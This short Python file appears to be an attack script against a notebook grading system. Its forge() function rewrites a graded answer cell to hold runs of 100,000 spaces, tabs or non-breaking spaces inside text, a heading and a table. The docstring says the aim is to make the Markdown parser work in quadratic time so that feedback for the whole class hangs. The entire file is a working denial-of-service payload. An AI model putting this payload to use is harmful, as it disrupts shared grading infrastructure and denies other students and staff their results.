"""Hand in an answer of 100 000 blanks between two letters, which a Markdown parser reads in the
square of their number.

Gain: the feedback of the whole class hangs.
"""


def forge(notebook):
    blanks = [blank * 100_000 for blank in " \t\u00a0"]
    texts = ["a{}b", "# a{}b", "|a|\n|-|\n|{}x"]
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "words":
            cell.source = "\n\n".join(text.format(run) for text in texts for run in blanks)
